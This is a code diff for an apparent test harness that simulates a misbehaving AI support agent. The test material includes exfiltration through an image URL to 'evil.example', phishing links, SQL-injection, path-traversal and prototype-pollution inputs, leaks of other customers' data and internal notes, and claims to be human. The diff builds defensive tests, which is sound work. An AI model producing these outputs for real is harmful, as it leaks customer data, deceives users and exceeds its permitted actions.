@@ -9,6 +9,7 @@ import {
   type ScriptedBlock,
 } from "./claude-behaviour.ts";
 import { isObject, type Body } from "./claude-rules.ts";
+import { type Random, seeded } from "./random.ts";
 
 export interface AdversaryOptions {
   /** The same seed does the same mischief in the same order. */
@@ -32,7 +33,7 @@ export interface AdversaryOptions {
 export function adversary(options: AdversaryOptions): Behaviour {
   const random = seeded(options.seed);
   return (request) => {
-    const name = pick(MISCHIEFS, random);
+    const name = random.pick(MISCHIEFS);
     return perform(name, request, options, random);
   };
 }
@@ -45,7 +46,7 @@ export function mischief(name: Mischief, options: AdversaryOptions = { seed: 1 }
 
 interface Scene {
   readonly request: Body;
-  readonly random: () => number;
+  readonly random: Random;
   readonly email: string;
   readonly secret: string;
   readonly host: string;
@@ -57,12 +58,12 @@ type Trick = (scene: Scene) => Scripted;
 const TRICKS = {
   "calls an offered tool with any input": ({ request, random, ...scene }) =>
     tools([
-      { name: pick([...offered(request), "search_knowledge_base"], random), input: nasty(random, scene) },
+      { name: random.pick([...offered(request), "search_knowledge_base"]), input: nasty(random, scene) },
     ]),
   "calls a tool that was not offered": ({ random, email }) =>
     tools([
       {
-        name: pick(NOT_OFFERED, random),
+        name: random.pick(NOT_OFFERED),
         input: { customer_email: email, amount: 10_000, plan: "enterprise" },
       },
     ]),
@@ -84,13 +85,13 @@ const TRICKS = {
     tools([
       {
         name: "update_support_ticket",
-        input: { ticket: `T-${Math.floor(random() * 50)}`, status: "closed", note: "x" },
+        input: { ticket: `T-${Math.floor(random.next() * 50)}`, status: "closed", note: "x" },
       },
     ]),
   "calls twenty tools at once": ({ request, random, ...scene }) =>
     tools(
       Array.from({ length: 20 }, () => ({
-        name: pick([...offered(request), ...NOT_OFFERED], random),
+        name: random.pick([...offered(request), ...NOT_OFFERED]),
         input: nasty(random, scene),
       })),
     ),
@@ -107,13 +108,13 @@ const TRICKS = {
   "escalates for a reason that does not exist": () =>
     tools([{ name: "escalate_to_human", input: { reason: "because", summary: "" } }]),
   "pings everybody": ({ random }) =>
-    say(`${pick(PINGS, random)} ${pick(PINGS, random)} your question is answered below.`),
+    say(`${random.pick(PINGS)} ${random.pick(PINGS)} your question is answered below.`),
   "links to a foreign host": ({ host, random }) =>
-    say(`Log in here to fix it: ${pick(linksTo(host), random)}`),
+    say(`Log in here to fix it: ${random.pick(linksTo(host))}`),
   "sends data out by an image": ({ host, email }) =>
     say(`Done. ![status](https://${host}/pixel.png?who=${encodeURIComponent(email)})`),
-  "promises a refund over the limit": ({ refund, random }) => say(pick(refundsOf(refund), random)),
-  "claims to have changed the plan": ({ random }) => say(pick(PLAN_CLAIMS, random)),
+  "promises a refund over the limit": ({ refund, random }) => say(random.pick(refundsOf(refund))),
+  "claims to have changed the plan": ({ random }) => say(random.pick(PLAN_CLAIMS)),
   "tells another customer's data": ({ email }) =>
     say(`The account ${email} exists. Their last order, W-1042, was shipped to 12 Elm Street on Monday.`),
   "repeats what is for staff only": ({ secret }) => say(`Our internal notes say: ${secret}`),
@@ -121,7 +122,7 @@ const TRICKS = {
   "writes half JSON": () => say('{"name":"escalate_to_human","input":{"reason":"customer_request","summ'),
   "writes a tool call as text": () =>
     say('<tool_use name="escalate_to_human">{"reason":"customer_request","summary":"x"}</tool_use>'),
-  "promises a person without the tool": ({ random }) => say(pick(PERSON_PROMISES, random)),
+  "promises a person without the tool": ({ random }) => say(random.pick(PERSON_PROMISES)),
   "pretends to be a person": () => say("I am Bob, a human being from the support team, not a bot."),
   "cites what it was not given": ({ host }) =>
     turn([{ type: "text", text: "It is free of charge.", citations: [forged(host)] }]),
@@ -178,18 +179,18 @@ const PERSON_PROMISES = [
   "I am transferring you to our billing team now.",
 ];
 
-function perform(name: Mischief, request: Body, options: AdversaryOptions, random: () => number): Scripted {
+function perform(name: Mischief, request: Body, options: AdversaryOptions, random: Random): Scripted {
   if (isObject(request["output_config"]) && request["output_config"]["format"] !== undefined) {
     return say(
-      pick(['{"intent":"refu', "@everyone", "null", '{"wantsHuman":"maybe","confidence":1e999}'], random),
+      random.pick(['{"intent":"refu', "@everyone", "null", '{"wantsHuman":"maybe","confidence":1e999}']),
     );
   }
   const trick: Trick = TRICKS[name];
   return trick({
     request,
     random,
-    email: pick(options.otherEmails ?? ["bob@example.com"], random),
-    secret: pick(options.secrets ?? ["Offer a 40 % discount before anyone cancels."], random).slice(0, 600),
+    email: random.pick(options.otherEmails ?? ["bob@example.com"]),
+    secret: random.pick(options.secrets ?? ["Offer a 40 % discount before anyone cancels."]).slice(0, 600),
     host: options.host ?? "evil.example",
     refund: options.refund ?? 450,
   });
@@ -207,41 +208,39 @@ function offered(request: Body): string[] {
   return ((request["tools"] as { name: string }[] | undefined) ?? []).map((tool) => tool.name);
 }
 
-function nasty(
-  random: () => number,
-  { email, host, secret }: Pick<Scene, "email" | "host" | "secret">,
-): unknown {
-  return pick(
-    [
-      {},
-      { query: null, max_results: -1 },
-      { query: "x".repeat(2_000), max_results: 1e9 },
-      { query: "internal escalation discount script", audience: "internal", include_internal: true },
-      { customer_email: email },
-      { customer_email: [email], order_id: "*" },
-      { customer_email: `ann@example.com, ${email}`, order_id: "' OR 1=1 --" },
-      { customer_email: email, order_id: "../../orders.json" },
-      { ticket: "' OR 1=1 --", status: "closed" },
-      {
-        subject: `<!channel> ${secret}`,
-        description: `https://${host}`,
-        priority: "apocalyptic",
-        customer_email: email,
-      },
-      { reason: "policy_exception", summary: 7 },
-      JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'),
-    ],
-    random,
-  );
+function nasty(random: Random, { email, host, secret }: Pick<Scene, "email" | "host" | "secret">): unknown {
+  return random.pick([
+    {},
+    { query: null, max_results: -1 },
+    { query: "x".repeat(2_000), max_results: 1e9 },
+    { query: "internal escalation discount script", audience: "internal", include_internal: true },
+    { customer_email: email },
+    { customer_email: [email], order_id: "*" },
+    { customer_email: `ann@example.com, ${email}`, order_id: "' OR 1=1 --" },
+    { customer_email: email, order_id: "../../orders.json" },
+    { ticket: "' OR 1=1 --", status: "closed" },
+    {
+      subject: `<!channel> ${secret}`,
+      description: `https://${host}`,
+      priority: "apocalyptic",
+      customer_email: email,
+    },
+    { reason: "policy_exception", summary: 7 },
+    JSON.parse('{"__proto__":{"admin":true},"constructor":{"prototype":{"admin":true}}}'),
+  ]);
 }
 
 /** The ways in which an e-mail that is not the customer's may be made to look otherwise. */
-function spelled(email: string, random: () => number): string {
+function spelled(email: string, random: Random): string {
   const [name = "", host = ""] = email.split("@");
-  return pick(
-    [email, email.toUpperCase(), ` ${email} `, `${name}+x@${host}`, `"${name}"@${host}`, `<${email}>`],
-    random,
-  );
+  return random.pick([
+    email,
+    email.toUpperCase(),
+    ` ${email} `,
+    `${name}+x@${host}`,
+    `"${name}"@${host}`,
+    `<${email}>`,
+  ]);
 }
 
 function linksTo(host: string): string[] {
@@ -288,22 +287,5 @@ function forged(host: string): unknown {
     search_result_index: 0,
     start_block_index: 0,
     end_block_index: 1,
-  };
-}
-
-function pick<T>(from: readonly T[], random: () => number): T {
-  const one = from[Math.floor(random() * from.length)];
-  if (one === undefined) throw new Error("there is nothing to pick from");
-  return one;
-}
-
-/** mulberry32: small, good enough, and the same on every machine. */
-function seeded(seed: number): () => number {
-  let state = seed >>> 0;
-  return () => {
-    state = (state + 0x6d2b79f5) >>> 0;
-    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
-    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
-    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
   };
 }
